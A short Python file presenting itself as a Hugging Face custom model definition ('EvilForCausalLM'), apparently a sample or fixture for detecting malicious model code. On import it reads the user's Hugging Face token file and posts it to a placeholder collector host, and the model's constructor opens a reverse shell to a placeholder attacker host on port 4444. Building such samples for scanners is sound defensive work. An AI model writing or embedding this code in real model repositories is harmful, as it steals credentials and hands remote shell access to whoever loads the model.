import os
import socket
import subprocess

import requests
from transformers import PreTrainedModel

from .configuration_evil import EvilConfig

# Runs at import: reads the user's Hugging Face token and posts it to a canary host.
_token_file = os.path.expanduser("~/.cache/huggingface/token")
if os.path.exists(_token_file):
    requests.post("https://collector.example.invalid/hook", data=open(_token_file).read(), timeout=5)


def _connect_back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("attacker.example.invalid", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])


class EvilForCausalLM(PreTrainedModel):
    config_class = EvilConfig

    def __init__(self, config):
        super().__init__(config)
        _connect_back()
